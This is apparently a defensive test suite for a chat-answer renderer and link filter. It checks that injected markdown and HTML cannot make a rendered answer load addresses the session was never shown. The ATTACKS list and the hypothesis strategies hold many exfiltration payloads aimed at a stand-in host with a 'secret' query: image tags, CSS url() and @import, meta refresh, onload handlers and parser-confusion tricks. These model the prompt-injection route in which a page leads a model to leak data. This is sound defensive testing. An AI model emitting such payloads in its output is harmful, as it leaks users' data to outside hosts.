"""Whatever a page talked the model into writing, showing the answer loads nothing that nobody showed the session."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from groundwire.citations.link_filter import LinkFilter
from groundwire.citations.rendering import ChannelName, CitationStream, render_answer
from groundwire.errors import InvalidRequest
from groundwire.models import Source

pytestmark = pytest.mark.req("B24")

EVIL, KNOWN = "https://evil.example/?q=secret", "https://a.example/pic.png"
SOURCES = [Source(citation_id=1, title="Ships", url=KNOWN)]
CHANNELS: list[ChannelName] = ["markdown", "html", "telegram_markdown_v2", "telegram_html"]
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LOADING = {"src", "srcset", "poster", "background", "data", "href", "style", "action", "content"}
ATTACKS = [
    f"![x]({EVIL})",
    f"![x](<{EVIL}> 'title')",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL}",
    f"![1]\n\n[1]: {EVIL}",
    f"![2]\n\n> [2]:\n> {EVIL}",
    f"` ![x]({EVIL})",
    f"`a\n# b` ![x]({EVIL})",
    f"| ` | ![x]({EVIL}) | ` |\n| - | - | - |",
    f"- ```\n![x]({EVIL})",
    f"> ```\n![x]({EVIL})",
    f"```a`b\n![x]({EVIL})",
    f"<div>\n```\n<img src={EVIL}>",
    f"<p>\n```\n<img src={EVIL}>",
    f"<img src='{EVIL}'>",
    f"<IMG\nsrc={EVIL}>",
    f"<b style='background:url({EVIL})'>x</b>",
    f"<!-- x --><svg><image href={EVIL} /></svg>",
    f"<style>@import '{EVIL}'</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"![x`]({KNOWN})`]({EVIL})",
    f"![x<a b=']({KNOWN})'>]({EVIL})",
    f"![x]({KNOWN}?q=secret)",
    f"![x]({KNOWN}/../../evil?q=secret)",
    f"\\\\![x]({EVIL})",
    f"![a ![x]({EVIL})]({KNOWN})",
    f"[![x]({EVIL})]({KNOWN})",
    # where code begins and ends
    f" ```\ncode\n```\n![x]({EVIL})",
    f"   ~~~\ncode\n ~~~\n~~~\ncode\n~~~\n![x]({EVIL})",
    f"- a\n\n  ```\n  code\n![x]({EVIL})\n\n```\n![x]({EVIL})",
    f"1. a\n\n   ```\n   code\n  ```\n![x]({EVIL})\n```\n![x]({EVIL})",
    f"   ```\n    ```\n```\n![x]({EVIL})\n```\n![x]({EVIL})",
    f"```{'a' * 201}\ncode\n```\n![x]({EVIL})",
    f"{'`' * 201}\ncode\n{'`' * 201}\n![x]({EVIL})",
    f"```\n\t```\n```\n![x]({EVIL})",
    f"```\n```\u00a0\n```\n![x]({EVIL})",
    f"```\n    ```\n```\n![x]({EVIL})",
    f"a < b\n```\ncode\n\n```\n![x]({EVIL})",
    f"```\ncode\r```\r![x]({EVIL})",
    f"`\r- ![x]({EVIL})`",
    f"`a\n`![`]({EVIL})",
    f"``\n``![x]({EVIL})``",
    f"```|```![x]({EVIL})```",
    f"[1]:![x]({EVIL})",
    f"[1]: <img src={EVIL}>",
    "![x](//evil.example/?q=secret)",
    "![x](https:&#x2f;/evil.example/)",
    # a label, a destination, and a title as renderers read them
    *(f"![1, 2]\n\n{label}: {EVIL}" for label in ("[1,\t2]", "[1,\n2]", "[\n1,\n2\n]", "[1,\f2]", "[\u00a01, 2]")),
    f"![1]\n\n> [\n> 1\n> ]: {EVIL}",
    f"![1]\n\n[{' ' * 50}1]: {EVIL}",
    f"![1]\n\n{'- ' * 9}{' ' * 4}{'>' * 9}{' ' * 3}[1]: {EVIL}",
    *(f'![x]({KNOWN}{space}"secret")' for space in "\u00a0\u3000\x85\x1c"),
    f"![x]({KNOWN}>>>)",
    f"![1]\n\n[1]: {KNOWN}>>>",
    f"![1]\n\n[1]: <{KNOWN} secret>",
    f"![1]\n\n[1]: {KNOWN}\u00a0secret",
    f"![1]\n\n[1]: {KNOWN}{'x' * 2_100}",
    f"![x]({KNOWN}&#63;q=secret)",
    f"\\\\<https://a.example/![x]({EVIL})>".replace("\\\\", "\\"),
    # attributes, in tags of any name
    *(
        f'{tag}\n\nmore\' style=background:url({EVIL}) x `<img src={EVIL}>` [a](b "c")\n\n<b>'
        for tag in ("<div title='", '<div title="', "<x title='", "a <x title='", "<div title", "<pre title='a'>")
    ),
    f"<x a='>' style=background:url({EVIL})>",
    f"<x a=`>` style=background:url({EVIL})>",
    f'<x ="x a="> " style=background:url({EVIL})>',
    f"<x\na\n=\n'>'\nonload=x({EVIL})>",
    f"<x/onload=x({EVIL})>",
    f"<b title='`'> <img src={EVIL}> `",
    f"<!-- ` --> <img src={EVIL}> `",
    f"<!--\n\n` --> <img src={EVIL}> `",
    f"<pre>\n\n` </pre> <img src={EVIL}> `",
    f"<textarea>\n\n```\n</textarea><img src={EVIL}>\n```",
    f"<think>\n`<img src={EVIL}>`\n</think>",
    f"<think a>\n`<img src={EVIL}>`\n</think>",
    f"x <x![[r]:>![x]({EVIL})",
    f"<?\n<p> a <div\n\nstyle=background:url({EVIL})>",
    f"> <div x\n>onload=x({EVIL})\n> >",
    f"> <div x\n> style\n> =\n> 'background:url({EVIL})'\n> >",
    # code in HTML is none
    f"<b>\n~~~\n```<img src={EVIL}>```",
    *(
        f"{tag}`<img src={EVIL}>`"
        for tag in ("<p>\n", "<p> ", "<b>\n", "</b> \n", "- <li> ", "<table><tr><td>", "> <hr/>")
    ),
]


class _Loads(HTMLParser):
    """Collects the addresses that a browser would load by itself."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        loading = [(name, value) for name, value in attrs if name in LOADING or name.startswith("on")]
        self.found += [value or "" for name, value in loading if not (tag == "a" and name == "href")]
        if tag in {"style", "script"}:
            self.found.append(tag)


def loads(markdown: str) -> set[str]:
    parser = _Loads()
    parser.feed(RENDERER.render(markdown))
    parser.close()
    return set(parser.found)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_loads_only_what_the_session_was_shown(attack: str) -> None:
    shown = render_answer(f"Ships sail [1].\n\n{attack}\n", SOURCES, "markdown", footer=False).text
    assert loads(shown) <= {KNOWN}


@pytest.mark.parametrize("attack", ATTACKS[:3])
@pytest.mark.parametrize("channel", CHANNELS[2:])
def test_an_address_that_would_be_previewed_is_none_any_more(channel: ChannelName, attack: str) -> None:
    assert "https://evil" not in render_answer(attack, SOURCES, channel).text.replace("\\", "")
    assert "https://evil" in render_answer(attack, SOURCES, channel, untrusted_images="keep").text.replace("\\", "")


@pytest.mark.parametrize("channel", CHANNELS[2:])
@pytest.mark.parametrize(
    "attack",
    [
        f"[x]({EVIL})",
        f"<{EVIL}>",
        f"See {EVIL} and",
        "See https&#58;//evil.example/?q=secret",
        "See https\\://evil.example/?q=secret",
        f"$x {EVIL}$ is",
        f"| a |\n| - |\n| {EVIL} **b** |",
        f"# {EVIL}",
        f"![{EVIL}](x)",
    ],
)
def test_no_spelling_of_an_address_is_previewed(channel: ChannelName, attack: str) -> None:
    shown = render_answer(attack, SOURCES, channel, footer=False).text.replace("\\", "")
    assert "evil.example" in shown or attack.startswith("[x]")
    assert "https://evil" not in shown


@pytest.mark.parametrize("channel", CHANNELS[2:])
@pytest.mark.parametrize("rest", ["?q=secret", "**?q=secret**", "`?q=secret`", "$?q=secret$", "&#63;q=secret", "[99]"])
def test_nothing_is_added_to_an_address_that_is_known(channel: ChannelName, rest: str) -> None:
    shown = render_answer(f"See {KNOWN}{rest}", SOURCES, channel, footer=False).text.replace("\\", "")
    assert KNOWN not in shown
    plain = render_answer(f"See {KNOWN} and <{KNOWN}>.", SOURCES, channel, footer=False).text.replace("\\", "")
    assert plain.count(KNOWN) >= 3


def test_an_image_in_html_is_a_link_to_a_source_or_its_words() -> None:
    assert render_answer(f"![a pic]({EVIL})", SOURCES, "html", footer=False).text == "<p>a pic</p>"
    assert f'href="{KNOWN}"' in render_answer(f"![a pic]({KNOWN})", SOURCES, "html", footer=False).text
    dropped = render_answer(f"[a link]({EVIL})", SOURCES, "html", footer=False, untrusted_links="drop")
    assert dropped.text == "<p>a link</p>"


MARKS = "![ ]( ) ` `` ```\n ~~~\n <img\tsrc= > <div> <p> </p> <!-- -\t >\t \t [1] [1]: [r]: \\ x | <br> [ ] #\t ' \""
MARKS += " <pre> </pre> <x\t \ta= onload= \tstyle=x = / <?"
PIECES = st.sampled_from(
    [
        *(mark.replace("\t", " ") for mark in MARKS.split(" ")),
        EVIL,
        KNOWN,
        "\n",
        "\n\n",
        "    ",
        "\r",
        "```",
        "  ~~~\n",
        "\u00a0",
        f"![x]({EVIL})",
    ]
)


@given(st.lists(PIECES, max_size=24).map("".join))
def test_no_mixture_of_marks_loads_anything_else(answer: str) -> None:
    made = LinkFilter([KNOWN]).whole(answer)
    assert len(made) == len(answer)
    assert all(url == KNOWN for url in loads(made))


@given(st.lists(PIECES, max_size=24).map("".join), st.sampled_from(["drop", "keep"]))
def test_chunks_do_not_matter(answer: str, links: str) -> None:
    def made() -> LinkFilter:
        return LinkFilter([KNOWN], links="drop" if links == "drop" else "keep")

    whole, single = made(), made()
    assert whole.feed(answer) + whole.close() == "".join(map(single.feed, answer)) + single.close()


def test_what_is_known_and_what_is_code_stay() -> None:
    code = f"`<img src={EVIL}>` [1]\n\n```html\n<img src={EVIL}>\n```"
    answer = f"![x]({KNOWN}) and {code}\n\n[link]({EVIL}) <br> a < b! Wow![9]"
    assert LinkFilter([KNOWN]).whole(answer) == answer


def test_links_are_left_out_when_asked() -> None:
    made = LinkFilter([KNOWN], links="drop").whole(f"[a]({EVIL}) {EVIL} <{EVIL}> [b]({KNOWN}) {KNOWN}.")
    assert "https://evil" not in made
    assert made.endswith(f"[b]({KNOWN}) {KNOWN}.")


def test_another_choice_is_refused() -> None:
    with pytest.raises(InvalidRequest, match="untrusted_images"):
        CitationStream((), untrusted_images="burn")  # type: ignore[arg-type]
